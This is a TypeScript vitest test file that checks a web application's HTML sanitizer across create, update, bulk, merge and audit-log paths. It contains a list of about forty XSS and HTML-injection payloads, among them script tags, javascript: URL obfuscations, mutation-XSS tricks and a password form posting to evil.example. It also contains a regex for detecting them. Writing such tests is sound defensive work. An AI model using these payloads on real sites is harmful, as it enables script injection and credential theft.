import { afterAll, beforeAll, expect, test } from 'vitest';
import { startTestApp, type Client, type TestApp } from '../testing.ts';
import { readInput } from './input.ts';

let app: TestApp;
let admin: Client;
beforeAll(async () => {
  app = await startTestApp();
  admin = await app.signIn();
});
afterAll(() => app?.close());

const FILE = `/api/files/${'a'.repeat(24)}`;

/** Each is written as `<p>before</p>…<p>after</p>`. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<style>*{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password" type="password"><button>Sign in</button></form>',
  '<div style="position:fixed;inset:0;background:#fff">over it all</div>',
  '<div class="mantine-Modal-overlay" id="root" data-x="1" aria-hidden="true">x</div>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="/api/files/x"></object><embed src="x">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="/api/users/logout">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  `<img srcset="https://evil.example/x 2x" src="${FILE}/../../users/logout">`,
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="/api/users/logout">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/app/../api/users/logout">x</a>',
  '<a href="https://fine.example" target="_self" rel="opener" onclick="alert(1)" ping="https://evil.example" style="x">x</a>',
  '<p onmouseover="alert(1)">x</p>',
  '<table background="https://evil.example/x"><tr><td width="9999" colspan="999999">x</td></tr></table>',
  '<video src="https://evil.example"><source src=x onerror=alert(1)></video>',
  '<textarea></textarea><title><img src=x onerror=alert(1)></title>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>',
  '<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>',
  '<x onclick=alert(1)>x</x><dialog open>x</dialog>',
];
const FORBIDDEN =
  /<\s*\/?\s*(script|style|link|meta|base|form|input|button|iframe|object|embed|svg|math|video|audio|source|textarea|title|noscript|template|marquee|details|dialog|x)\b|<[^>]*\s(on\w+|style|class|id|data-\w+|aria-\w+|srcset|ping|background|width|name)\s*=|<[^>]*(javascript|vbscript|data)\s*:|<[^>]*(evil|logout|999)|opener"(?<!noopener")/i;

const wrapped = (payload: string) => `<p>before</p>${payload}<p>after</p>`;
const expectHarmless = (where: string, html: unknown) => {
  expect([where, FORBIDDEN.exec(String(html))?.[0]]).toEqual([where, undefined]);
  expect([where, html]).toEqual([where, expect.stringContaining('<p>before</p>')]);
};

test('hostile markup of formatted text is kept by no path: create, replace, fields, bulk, generic, merge, the server itself', async () => {
  for (const payload of HOSTILE) {
    const description = wrapped(payload);
    const made = (await admin.post('/api/hr-policies', { name: 'A', description })).body.record;
    const other = (await admin.post('/api/hr-policies', { name: 'B' })).body.record;
    const generic = { moduleOptions: { name: 'hrPolicies' } };
    const one = `/api/hr-policies/${other._id}`;
    const fields = { description };
    const stored = async () => (await admin.get(one)).body.description;
    const writes: Record<string, () => Promise<unknown>> = {
      replace: () => admin.put(one, { name: 'B', ...fields }),
      'certain fields': () => admin.put(`/api/hr-policies/update-certain-fields/${other._id}`, { fields }),
      bulk: () => admin.put('/api/hr-policies/update-certain-fields-array', { ids: [other._id], fields }),
      'generic replace': () => admin.put(`/api/generic-modules/${other._id}`, { ...generic, record: { name: 'B', ...fields } }),
      'generic bulk': () =>
        admin.put('/api/generic-modules/update-certain-fields-array', { ...generic, ids: [other._id], fields }),
      system: () => app.system().records.update('hrPolicies', other._id, fields),
      'system bulk': () => app.system().records.updateMany('hrPolicies', [other._id], fields),
      merge: () => admin.post('/api/merge', { _moduleName: 'hrPolicies', fromRecordId: made._id, toRecordId: other._id, fields }),
    };
    expectHarmless(`create ${payload}`, made.description);
    const byGeneric = await admin.post('/api/generic-modules', { ...generic, record: { name: 'G', ...fields } });
    expectHarmless(`generic create ${payload}`, byGeneric.body.record.description);
    for (const [path, write] of Object.entries(writes)) {
      await app.engine.database.query(`update records."hrPolicies" set description = null where _id = $1`, [other._id]);
      await write();
      expectHarmless(`${path} ${payload}`, await stored());
    }
  }
  const { rows } = await app.engine.database.query(
    `select new_value::text as v from muster.audit_log where field = 'description'`,
  );
  expect(rows.length).toBeGreaterThan(HOSTILE.length);
  for (const { v } of rows) if (v !== 'null') expectHarmless('audit log', JSON.parse(v));
}, 120_000);

test('every formatted field of every module is read through the same list', () => {
  const rich = [...app.engine.registry.modules.values()].flatMap((module) =>
    [...module.storage.values()].filter(({ field }) => field.rich && !field.serverOnly).map(({ name }) => ({ module, name })),
  );

  expect(rich.length).toBeGreaterThan(9);
  for (const { module, name } of rich)
    for (const payload of HOSTILE) {
      const { values } = readInput(app.system(), module, { [name]: wrapped(payload) }, null);
      expectHarmless(`${module.name}.${name} ${payload}`, values[name]);
    }
});

test('what people write stays as it is, and reading it twice changes nothing', async () => {
  const written =
    '<h2>Hands</h2><p>Wash <b>them</b>, <em>always</em> &amp; <u>well</u>: 3 &lt; 5<br /></p><ul><li>one</li></ul>' +
    `<div>line</div><table><tbody><tr><td colspan="2">cell</td></tr></tbody></table><img src="${FILE}" alt="a hand" />`;
  const links = [
    'https://fine.example/a?b=c',
    'http://fine.example',
    'mailto:a@b.example',
    'tel:+15551234',
    '/app/leads/detail/1',
    FILE,
  ];
  const description = written + links.map((href) => `<a href="${href}">${href}</a>`).join('');

  const { record } = (await admin.post('/api/hr-policies', { name: 'Kept', description })).body;

  const safe = ' rel="noopener noreferrer" target="_blank"';
  expect(record.description).toBe(written + links.map((href) => `<a href="${href}"${safe}>${href}</a>`).join(''));
  const again = await admin.put(`/api/hr-policies/${record._id}`, { ...record, version: record.version });
  expect(again.body.record.version).toBe(record.version);
  const plain = (await admin.post('/api/hr-policies', { name: 'Plain', description: 'no tags here' })).body.record;
  expect(plain.description).toBe('no tags here');
});

test('markup that leaves nothing is empty, and deep or long markup takes no time', async () => {
  const { status, body } = await admin.post('/api/admin-notes', { name: 'N', note: '<script>alert(1)</script>' });
  expect(status).toBe(422);
  expect(body.fields).toMatchObject({ note: 'Note is required.' });

  for (const piece of ['<b>', '<a href="', '<', '<!--', '<p title="', '&amp;<i>x', '</p>']) {
    const started = performance.now();
    await admin.post('/api/hr-policies', { name: 'Long', description: piece.repeat(Math.floor(99_000 / piece.length)) });
    expect([piece, performance.now() - started < 2_000]).toEqual([piece, true]);
  }
});
